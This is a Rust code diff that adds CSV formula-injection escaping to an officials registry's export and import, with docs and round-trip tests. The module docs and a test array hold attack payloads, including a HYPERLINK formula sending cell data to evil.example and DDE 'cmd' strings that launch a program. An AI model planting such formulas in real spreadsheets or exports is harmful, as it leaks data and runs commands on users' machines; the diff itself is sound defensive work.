@@ -22,6 +22,27 @@
 //! (a comma, quote or line break inside a field needs quotes). Export writes all columns in
 //! the order above, ordered by id, so export → import → export gives the same bytes.
 //!
+//! # Cells a spreadsheet would run
+//!
+//! A spreadsheet opening the export treats a cell that begins with `=`, `+`, `-`, `@`, a tab
+//! or a carriage return as a formula: a name like `=HYPERLINK("http://evil.example/?x="&A1)`
+//! would run on the admin's machine (CSV or formula injection). So export writes such a cell
+//! with a leading `'` (the OWASP rule), and import takes exactly that `'` off again:
+//!
+//! - **export**: a cell that begins with any number of `'` followed by one of those
+//!   characters gets one more `'` in front (`=x` → `'=x`, `'=x` → `''=x`); any other cell is
+//!   written as it is (`'hello` stays `'hello`).
+//! - **import** (CSV only): a cell that begins with one or more `'` followed by one of those
+//!   characters loses its first `'` (`'=x` → `=x`, `''=x` → `'=x`); any other cell is read as
+//!   it is (`'hello` stays `'hello`: export could never have written it from anything else).
+//!
+//! Export's cells that get a `'` are exactly the ones import takes it off, so every value
+//! comes back unchanged, whatever it begins with. The rule covers every text column (`id`,
+//! `name`, `aliases`, `designation`, `designation_aliases`, `organization`, `notes`; the
+//! other columns never begin with those characters). `phones` is the one exception: it always
+//! begins with the `+` of an E.164 number, holds only validated numbers and labels of
+//! letters, digits, spaces, `_` and `-`, so it cannot call a function, and stays as written.
+//!
 //! A JSON import is an array of objects with the same keys (lists as JSON arrays, phones as
 //! strings or `{"number", "label"}` objects); `created_at`, `updated_at` and `version` are
 //! accepted and ignored, so a listed official can be imported back.
@@ -241,6 +262,11 @@ fn parse_csv(bytes: &[u8]) -> Result<Vec<ImportRow>, RegistryError> {
         };
         let mut r = ImportRow::default();
         for (cell, &c) in record.iter().zip(&columns) {
+            let cell = if c == PHONES {
+                cell
+            } else {
+                unescape_cell(cell)
+            };
             match c {
                 0 => r.id = Some(cell.trim().to_string()),
                 1 => r.name = cell.to_string(),
@@ -294,6 +320,36 @@ fn split_phones(cell: &str) -> Vec<PhoneInput> {
         .collect()
 }
 
+/// Position of the `phones` column in [`CSV_COLUMNS`]: the one column never escaped.
+const PHONES: usize = 6;
+
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether `cell` is `'`* followed by a formula character: the cells export escapes (once
+/// more) and import unescapes (see the module docs).
+fn starts_like_formula(cell: &str) -> bool {
+    cell.trim_start_matches('\'')
+        .starts_with(FORMULA_START.as_slice())
+}
+
+/// A text cell as export writes it: with one more `'` when a spreadsheet would run it.
+fn escape_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    if starts_like_formula(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A text cell as import reads it: the `'` that [`escape_cell`] adds, taken off again.
+fn unescape_cell(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if starts_like_formula(rest) => rest,
+        _ => cell,
+    }
+}
+
 /// Write officials as CSV, in the order given (callers pass them ordered by id).
 pub fn write_csv(officials: &[Official]) -> Result<Vec<u8>, RegistryError> {
     let mut w = csv::WriterBuilder::new()
@@ -311,18 +367,19 @@ pub fn write_csv(officials: &[Official]) -> Result<Vec<u8>, RegistryError> {
         let date = |d: Option<time::OffsetDateTime>| {
             d.and_then(|d| d.format(&Rfc3339).ok()).unwrap_or_default()
         };
+        let text = |cell: &str| escape_cell(cell).into_owned();
         w.write_record([
-            o.id.as_str(),
-            &o.name,
-            &o.aliases.join("|"),
-            &o.designation,
-            &o.designation_aliases.join("|"),
-            &o.organization,
-            &phones,
-            o.status.as_str(),
-            &o.notes,
-            &date(o.valid_from),
-            &date(o.valid_until),
+            text(o.id.as_str()),
+            text(&o.name),
+            text(&o.aliases.join("|")),
+            text(&o.designation),
+            text(&o.designation_aliases.join("|")),
+            text(&o.organization),
+            phones,
+            text(o.status.as_str()),
+            text(&o.notes),
+            text(&date(o.valid_from)),
+            text(&date(o.valid_until)),
         ])
         .map_err(bad)?;
     }
@@ -417,5 +474,128 @@ mod tests {
             assert!(id.is_some());
             crate::registry::validate::validate_new(&input, crate::phone::Region::INDIA).unwrap();
         }
+    }
+
+    const ATTACKS: [&str; 7] = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "'=1+1",
+    ];
+
+    fn official(name: &str, notes: &str) -> Official {
+        let now = time::OffsetDateTime::UNIX_EPOCH;
+        Official {
+            id: crate::registry::OfficialId::parse("off_1").unwrap(),
+            name: name.into(),
+            aliases: vec![name.into(), "plain".into()],
+            designation: name.into(),
+            designation_aliases: vec![name.into()],
+            organization: name.into(),
+            phones: vec![crate::registry::PhoneEntry {
+                number: crate::phone::E164::parse("+917000000001", crate::phone::Region::INDIA)
+                    .unwrap(),
+                label: "pa".into(),
+            }],
+            status: OfficialStatus::Active,
+            notes: notes.into(),
+            valid_from: None,
+            valid_until: None,
+            created_at: now,
+            updated_at: now,
+            version: 1,
+        }
+    }
+
+    /// The data cells of an export, as a spreadsheet would see them.
+    fn exported_cells(o: &Official) -> Vec<String> {
+        let bytes = write_csv(std::slice::from_ref(o)).unwrap();
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        let record = reader.records().next().unwrap().unwrap();
+        record.iter().map(String::from).collect()
+    }
+
+    #[test]
+    fn no_exported_text_cell_begins_like_a_formula() {
+        for attack in ATTACKS {
+            let cells = exported_cells(&official(attack, attack));
+            for (i, cell) in cells.iter().enumerate() {
+                if i == PHONES {
+                    assert_eq!(cell, "+917000000001:pa");
+                    continue;
+                }
+                assert!(
+                    !cell.starts_with(FORMULA_START.as_slice()),
+                    "column {} of {attack:?}: {cell:?}",
+                    CSV_COLUMNS[i]
+                );
+            }
+            assert_eq!(cells[1], format!("'{attack}"), "name");
+            assert_eq!(cells[2], format!("'{attack}|plain"), "aliases");
+            assert_eq!(cells[8], format!("'{attack}"), "notes");
+        }
+    }
+
+    #[test]
+    fn import_takes_off_exactly_the_quote_that_export_adds() {
+        for (cell, imported) in [
+            ("'=x", "=x"),
+            ("''=x", "'=x"),
+            ("'+1", "+1"),
+            ("'-1", "-1"),
+            ("'@x", "@x"),
+            ("'\tx", "\tx"),
+            ("'hello", "'hello"),
+            ("''hello", "''hello"),
+            ("'", "'"),
+            ("", ""),
+            ("=x", "=x"),
+            ("O'Brien", "O'Brien"),
+        ] {
+            assert_eq!(unescape_cell(cell), imported, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn every_text_comes_back_from_export_and_import_unchanged() {
+        let texts = ATTACKS.iter().copied().chain([
+            "plain",
+            "'hello",
+            "''=x",
+            "'",
+            "''",
+            "",
+            "O'Brien",
+            "-",
+            "अरविंद",
+        ]);
+        for text in texts {
+            assert_eq!(unescape_cell(&escape_cell(text)), text, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_csv_export_of_formula_like_text_imports_back_to_the_same_text() {
+        for attack in ATTACKS {
+            let o = official(attack, &format!("{attack}\nsecond line"));
+            let bytes = write_csv(std::slice::from_ref(&o)).unwrap();
+            let rows = parse_import(&bytes, ImportFormat::Csv).unwrap();
+            let r = &rows[0];
+            assert_eq!(r.name, attack);
+            // List cells split at `|` and trim their entries (validation refuses `|` inside
+            // an entry, so a registry never holds one).
+            assert_eq!(r.aliases.join("|"), format!("{}|plain", attack.trim()));
+            assert_eq!(r.designation_aliases.join("|"), attack.trim());
+            assert_eq!(r.notes, o.notes);
+        }
+    }
+
+    #[test]
+    fn a_json_import_is_never_unescaped() {
+        let rows = parse_import(br#"[{"name": "'=x"}]"#, ImportFormat::Json).unwrap();
+        assert_eq!(rows[0].name, "'=x");
     }
 }
